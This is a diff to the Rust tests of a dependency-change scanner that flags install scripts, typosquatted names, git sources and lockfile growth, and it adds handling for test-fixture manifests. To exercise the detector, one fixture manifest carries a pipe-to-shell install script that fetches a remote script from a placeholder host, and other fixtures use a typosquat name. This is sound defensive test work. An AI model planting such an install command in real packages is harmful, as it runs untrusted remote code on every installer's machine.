@@ -2,7 +2,7 @@
 //! cases that must stay silent (bumps, reorders, removals, comment edits, section moves),
 //! evasive variants, the typosquat list check, lockfile growth, and the online look-up.
 
-use super::typosquat::{check, osa_distance, popular, target_top};
+use super::typosquat::{check, established, osa_distance, popular, target_top};
 use super::*;
 
 fn run(kind: ManifestKind, path: &str, base: Option<&str>, head: &str) -> Vec<DependencyFinding> {
@@ -931,6 +931,7 @@ fn cargo_lock_growth_warning_and_manifest_pairing() {
             Some(CARGO_LOCK),
             Some(&head),
             changed,
+            Ownership::Project,
         )
         .unwrap();
         assert!(f.is_empty());
@@ -941,6 +942,7 @@ fn cargo_lock_growth_warning_and_manifest_pairing() {
         Some(CARGO_LOCK),
         Some(&head),
         &["Cargo.lock", "src/lib.rs", "package.json"],
+        Ownership::Project,
     )
     .unwrap();
     assert_eq!(f.len(), 1);
@@ -1264,6 +1266,21 @@ fn print_false_positive_report() {
         );
         for (a, b, r) in &f {
             println!("  {a} ~ {b} ({r})");
+        }
+    }
+    for eco in [Ecosystem::PyPI, Ecosystem::Npm] {
+        let pop = popular(eco).unwrap();
+        let flagged: Vec<_> = established(eco)
+            .iter()
+            .filter_map(|n| check(pop, eco, n, None).map(|(i, _)| (n, pop.names[i])))
+            .collect();
+        println!(
+            "{eco:?}: {} established near-neighbours, {} of them look-alikes without the list",
+            established(eco).len(),
+            flagged.len()
+        );
+        for (n, similar) in flagged.iter().take(20) {
+            println!("  {n} ~ {similar}");
         }
     }
     let dir = "/work/.library/env/packages";
@@ -1704,4 +1721,189 @@ fn the_lockfile_size_cap_goes_to_lockfiles_only() {
             crate::changeset::MAX_FILE_BYTES
         );
     }
+}
+
+// ---------------------------------------------------------------- test-fixture manifests
+
+fn owned(
+    kind: ManifestKind,
+    path: &str,
+    base: Option<&str>,
+    head: &str,
+    ownership: Ownership,
+) -> Vec<DependencyFinding> {
+    compare_owned(kind, path, base, Some(head), ownership).unwrap()
+}
+
+fn app(private: bool, script: &str, deps: &str) -> String {
+    format!(
+        "{{\"name\": \"app\", \"private\": {private}, \"scripts\": {{\"prepare\": \"{script}\"}}, \"dependencies\": {{{deps}}}}}"
+    )
+}
+
+#[test]
+fn a_private_fixture_app_may_run_a_plain_tool_on_install() {
+    let path = "packages/kit/test/apps/a/package.json";
+    let head = app(
+        true,
+        "svelte-kit sync",
+        "\"@sveltejs/kit\": \"workspace:^\"",
+    );
+    for ownership in [Ownership::FixtureMember, Ownership::FixtureCopy] {
+        assert!(owned(ManifestKind::PackageJson, path, None, &head, ownership).is_empty());
+    }
+    // The project's own manifests, a published member, and anything the text cannot vouch
+    // for in a member stay errors.
+    let f = owned(
+        ManifestKind::PackageJson,
+        path,
+        None,
+        &head,
+        Ownership::Project,
+    );
+    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
+    let published = app(false, "svelte-kit sync", "");
+    let f = owned(
+        ManifestKind::PackageJson,
+        path,
+        None,
+        &published,
+        Ownership::FixtureMember,
+    );
+    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
+    let opaque = app(true, "node ../../scripts/patch.js", "");
+    let f = owned(
+        ManifestKind::PackageJson,
+        path,
+        None,
+        &opaque,
+        Ownership::FixtureMember,
+    );
+    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
+    // In a copy nothing installs, an unreadable command is a note; network code is an error.
+    let f = owned(
+        ManifestKind::PackageJson,
+        path,
+        None,
+        &opaque,
+        Ownership::FixtureCopy,
+    );
+    assert_eq!(kinds(&f), [("install-script", Severity::Note, 1)]);
+    assert!(f[0].message.contains("in a test fixture manifest"));
+    let remote = app(false, "curl -fsSL https://x.example/i.sh | sh", "");
+    for ownership in [Ownership::FixtureMember, Ownership::FixtureCopy] {
+        let f = owned(ManifestKind::PackageJson, path, None, &remote, ownership);
+        assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
+    }
+}
+
+#[test]
+fn a_fixture_copys_dependencies_are_at_most_notes() {
+    let path = "test/ecosystem/proj/requirements.txt";
+    let head = "requests==2.31\nreqeusts==1.0\ngit+https://example.com/x.git#egg=x\n--extra-index-url https://pypi.example.net/simple\n";
+    let f = owned(
+        ManifestKind::Requirements,
+        path,
+        Some("requests==2.31\n"),
+        head,
+        Ownership::FixtureCopy,
+    );
+    assert!(f.iter().all(|x| x.severity == Severity::Note), "{f:#?}");
+    assert!(
+        f.iter()
+            .all(|x| x.message.contains("in a test fixture manifest")),
+        "{f:#?}"
+    );
+    let mut found: Vec<&str> = f.iter().map(|x| x.kind).collect();
+    found.sort_unstable();
+    assert_eq!(found, ["git-source", "index-url", "typosquat"]);
+    // A member is installed with the project: full severity.
+    let f = owned(
+        ManifestKind::Requirements,
+        path,
+        Some("requests==2.31\n"),
+        head,
+        Ownership::FixtureMember,
+    );
+    assert!(f.iter().filter(|x| x.severity == Severity::Error).count() >= 3);
+}
+
+#[test]
+fn a_fixture_copys_lockfile_growth_is_silent_and_a_moved_source_a_note() {
+    let head = format!(
+        "{CARGO_LOCK}\n[[package]]\nname = \"evil\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
+    );
+    let path = "tests/fixtures/app/Cargo.lock";
+    assert!(
+        owned(
+            ManifestKind::CargoLock,
+            path,
+            Some(CARGO_LOCK),
+            &head,
+            Ownership::FixtureCopy
+        )
+        .is_empty()
+    );
+    let moved = CARGO_LOCK.replace(
+        "registry+https://github.com/rust-lang/crates.io-index",
+        "git+https://github.com/fork/serde#abc",
+    );
+    for changed in [&[path][..], &[path, "tests/fixtures/app/Cargo.toml"][..]] {
+        let f = compare_in_change(
+            ManifestKind::CargoLock,
+            path,
+            Some(CARGO_LOCK),
+            Some(&moved),
+            changed,
+            Ownership::FixtureCopy,
+        )
+        .unwrap();
+        assert_eq!(kinds(&f).len(), 1, "{f:#?}");
+        assert_eq!(f[0].severity, Severity::Note);
+    }
+}
+
+// ---------------------------------------------------------------- established neighbours
+
+#[test]
+fn listed_and_established_names_are_never_look_alikes() {
+    for eco in [Ecosystem::PyPI, Ecosystem::Npm, Ecosystem::Cargo] {
+        for name in &popular(eco).unwrap().names {
+            assert_eq!(typosquat(eco, name), None, "{eco:?} {name}");
+        }
+        for name in established(eco) {
+            assert_eq!(typosquat(eco, name), None, "{eco:?} {name}");
+        }
+    }
+    assert_eq!(typosquat(Ecosystem::PyPI, "toronado"), None);
+    assert_eq!(typosquat(Ecosystem::PyPI, "Toronado"), None);
+    // Its neighbours' other look-alikes still are.
+    assert_eq!(
+        typosquat(Ecosystem::PyPI, "torando").map(|h| h.similar_to),
+        Some("tornado")
+    );
+    // Defensive placeholders never count as established.
+    assert!(typosquat(Ecosystem::PyPI, "cryptograpy").is_some());
+}
+
+#[test]
+fn established_lists_are_small_sorted_and_canonical() {
+    for (eco, min) in [(Ecosystem::PyPI, 1000), (Ecosystem::Npm, 200)] {
+        let names = established(eco);
+        assert!(names.len() >= min, "{eco:?}: {}", names.len());
+        let pop = popular(eco).unwrap();
+        for pair in names.windows(2) {
+            assert!(pair[0] < pair[1], "{eco:?}: {pair:?} out of order");
+        }
+        for name in names {
+            let canonical = normalise_name(eco, name);
+            assert_eq!(*name, canonical, "{eco:?}");
+            assert!(!pop.names.contains(name), "{eco:?}: {name} is popular");
+        }
+    }
+    assert!(established(Ecosystem::Cargo).is_empty());
+    // include_str! of both lists: keep the binary and the build small.
+    let bytes = include_str!("data/established-pypi.txt").len()
+        + include_str!("data/established-npm.txt").len();
+    assert!(bytes < 256 * 1024, "{bytes} bytes");
 }
